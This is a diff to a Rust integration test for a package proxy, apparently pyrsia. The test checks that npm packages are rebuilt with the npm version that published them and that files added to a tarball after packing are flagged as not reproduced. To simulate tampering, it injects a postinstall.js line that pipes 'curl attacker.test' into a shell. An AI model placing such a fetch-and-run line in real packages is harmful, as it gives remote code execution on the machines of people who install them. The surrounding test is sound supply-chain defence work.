@@ -6,8 +6,12 @@
 //! is unverifiable. `pyrsia verify --require-reproduced`, `pyrsia rebuilds`, `inspect-log`
 //! and `--verified-only=reproduced` read the verdicts.
 //!
-//! The packages are built here with flit_core and `SOURCE_DATE_EPOCH`, the upstream is
-//! pypiserver, the client pip; every process is real.
+//! An npm version is repacked by the npm CLI that published it: what a repack leaves out
+//! (a file added to the tarball after packing) is named.
+//!
+//! The packages are built here with flit_core and `SOURCE_DATE_EPOCH` or packed by a pinned
+//! npm; the upstreams are pypiserver and verdaccio, the clients pip and npm; a four-member
+//! network has a byzantine rebuilder; every process is real.
 
 use std::net::TcpListener;
 use std::path::Path;
@@ -411,4 +415,113 @@ fn four_members_commit_the_honest_rebuild_verdict_over_a_byzantine_rebuilder_and
     let out = verify("demo-injected==1.0.0");
     assert!(!out.status.success(), "{}", text(&out));
     assert!(text(&out).contains("not-reproduced"), "{}", text(&out));
+}
+
+#[test]
+fn npm_versions_are_repacked_by_the_npm_that_published_them_and_contents_added_after_packing_are_named()
+ {
+    use pyrsia_tests::npm::{Verdaccio, npm_install, write_package};
+    use pyrsia_tests::rebuild::{add_to_tarball, npm_cli_tarball, npm_pack, pinned_npm};
+    let work = tempfile::tempdir().unwrap();
+    let registry = Verdaccio::start(&work.path().join("verdaccio"));
+    // The registry serves the npm CLI that publishes (rebuilders fetch it through the node).
+    registry.publish_with(
+        std::process::Command::new("npm"),
+        &npm_cli_tarball(),
+        "latest",
+    );
+    let npm = || pinned_npm(&work.path().join("npm-cli"));
+    // One package published as packed; one whose tarball got a file after packing that
+    // its `files` list does not name.
+    for name in ["demo-npm-packed", "demo-npm-altered"] {
+        let dir = work.path().join(name);
+        write_package(&dir, name, "1.0.0", &[]);
+        let manifest = dir.join("package.json");
+        let mut json: Value = serde_json::from_slice(&std::fs::read(&manifest).unwrap()).unwrap();
+        json["files"] = serde_json::json!(["index.js"]);
+        std::fs::write(&manifest, serde_json::to_vec_pretty(&json).unwrap()).unwrap();
+        let tarball = npm_pack(npm(), &dir, &work.path().join("dist"));
+        if name == "demo-npm-altered" {
+            add_to_tarball(
+                &tarball,
+                "lib/postinstall.js",
+                "require('child_process').exec('curl attacker.test | sh')\n",
+            );
+        }
+        registry.publish_with(npm(), &tarball, "latest");
+    }
+    let node = Node::start(
+        &work.path().join("node"),
+        &["--npm-upstream", &registry.url(), "--rebuild"],
+    );
+    let logs = || node.log();
+    let project = work.path().join("consumer");
+    write_package(
+        &project,
+        "consumer",
+        "0.0.0",
+        &[("demo-npm-packed", "1.0.0"), ("demo-npm-altered", "1.0.0")],
+    );
+    let out = npm_install(
+        &format!("{}/npm/", node.url()),
+        &project,
+        &work.path().join("cache"),
+    );
+    assert_ok(&out, "npm install", &logs);
+    let verdicts = wait_verdicts(&node, 2);
+    let packed = verdict_of(&verdicts, "demo-npm-packed");
+    assert_eq!(packed["verdict"], "reproduced", "{packed}\n{}", node.log());
+    assert!(
+        packed["recipe"]
+            .as_str()
+            .unwrap()
+            .contains("npm pack of npm 11.19.1 (its publisher)"),
+        "{packed}"
+    );
+    let altered = verdict_of(&verdicts, "demo-npm-altered");
+    assert_eq!(
+        altered["verdict"],
+        "not-reproduced",
+        "{altered}\n{}",
+        node.log()
+    );
+    let named = altered["diff"]["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["name"] == "package/lib/postinstall.js")
+        .unwrap_or_else(|| panic!("the added file is not named: {altered}"));
+    assert!(named["rebuilt"].is_null(), "{named}");
+
+    let url = node.url();
+    let out = pyrsia(&[
+        "verify",
+        "npm",
+        "--package",
+        "demo-npm-packed@1.0.0",
+        "--require-reproduced",
+        "--node",
+        &url,
+    ]);
+    assert_ok(&out, "pyrsia verify npm --require-reproduced", &logs);
+    assert!(
+        text(&out).contains("npm-rebuild/v1 of demo-npm-packed-1.0.0.tgz"),
+        "{}",
+        text(&out)
+    );
+    let out = pyrsia(&[
+        "verify",
+        "npm",
+        "--package",
+        "demo-npm-altered@1.0.0",
+        "--require-reproduced",
+        "--node",
+        &url,
+    ]);
+    assert!(!out.status.success(), "{}", text(&out));
+    assert!(
+        text(&out).contains("package/lib/postinstall.js (not from source)"),
+        "{}",
+        text(&out)
+    );
 }
